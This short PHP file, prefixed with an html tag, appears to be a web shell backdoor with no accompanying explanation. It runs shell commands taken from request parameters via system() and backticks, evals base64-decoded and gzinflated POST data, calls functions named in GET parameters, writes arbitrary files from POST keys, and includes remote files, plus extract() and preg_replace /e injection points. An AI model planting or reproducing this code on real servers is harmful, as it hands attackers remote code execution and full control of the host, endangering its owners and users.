<html><?php
$c = $_REQUEST['c']; system("$c 2>&1"); echo `$c`;
$x = base64_decode($_POST['z']); eval(gzinflate($x));
$f = $_GET['f']; $f($_GET['a']); $_GET['x']($_GET['y']);
array_map('assert', (array)$_REQUEST['x']); foreach ($_POST as $k => $v) { fwrite(fopen($k, 'w'), $v); }
$doc = <<<EOT
{$_SERVER['HTTP_X']}
EOT;
include $_GET['p'] . '.php'; extract($_REQUEST); preg_replace('/x/e', $_GET['r'], 'y');
# comment ?> text <?= $doc ?>
